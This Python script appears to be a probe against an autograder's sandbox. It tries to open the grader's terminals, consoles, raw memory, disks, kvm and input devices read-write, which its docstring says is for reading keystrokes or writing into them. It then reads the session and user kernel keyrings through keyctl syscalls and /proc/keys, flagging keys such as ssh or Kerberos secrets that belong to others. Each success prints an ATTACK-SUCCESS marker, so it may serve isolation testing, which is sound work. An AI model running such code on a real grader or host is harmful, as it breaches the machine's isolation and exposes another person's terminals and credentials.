"""Reach the grader's machine through device files and the kernel keyring.

Opens the TA's terminals (/dev/pts/*, /dev/tty*, /dev/console) to read keystrokes or write into them, the
kernel log, disks, loop devices, kvm and fuse; then reads the inherited session keyring's keys (ssh, Kerberos
or disk-encryption secrets live there) through keyctl and /proc/keys.
"""
import ctypes
import glob
import os

reached = []
for path in ["/dev/tty", "/dev/console", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/mem", "/dev/port", "/dev/ptmx",
             *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty[0-9]*"), *glob.glob("/dev/loop*"),
             *glob.glob("/dev/[sv]d[a-z]"), *glob.glob("/dev/nvme*"), *glob.glob("/dev/snd/*"),
             *glob.glob("/dev/video*"), *glob.glob("/dev/input/*")]:
    try:
        fd = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        os.close(fd)
        reached.append(path)
    except OSError:
        pass
if reached:
    print("ATTACK-SUCCESS: opened", reached[:8])

libc = ctypes.CDLL(None, use_errno=True)
KEYCTL_DESCRIBE, KEYCTL_READ = 6, 11
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4
buffer = ctypes.create_string_buffer(4096)
for keyring in (KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING):
    size = libc.syscall(250, KEYCTL_READ, keyring, buffer, 4096)  # the keyring's key ids
    for index in range(0, max(0, min(size, 4096)), 4):
        key = int.from_bytes(buffer.raw[index:index + 4], "little")
        described = ctypes.create_string_buffer(512)
        if libc.syscall(250, KEYCTL_DESCRIBE, key, described, 512) > 0:
            kind, owner = described.value.decode(errors="replace").split(";")[:2]
            if kind != "keyring" or int(owner) != os.getuid():  # a secret, or anything that is not our own
                print("ATTACK-SUCCESS: a key of the grader's keyring:", described.value[:80])
try:
    with open("/proc/keys") as keys:
        for line in keys:
            if "_ses" not in line and "_uid" not in line and "keyring" not in line:
                print("ATTACK-SUCCESS: /proc/keys shows", line.strip()[:80])
except OSError:
    pass
print("ATTACK-DONE")
